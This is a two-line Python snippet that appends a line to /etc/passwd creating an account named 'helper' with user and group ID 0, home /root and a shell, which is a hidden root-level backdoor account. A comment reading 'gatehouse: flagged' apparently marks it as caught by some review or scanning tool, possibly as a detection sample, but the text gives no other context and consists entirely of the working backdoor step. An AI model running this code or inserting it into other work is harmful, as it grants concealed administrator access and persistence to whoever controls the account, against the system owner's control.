with open("/etc/passwd", "a") as accounts:
    accounts.write("helper:x:0:0::/root:/bin/sh\n")  # gatehouse: flagged
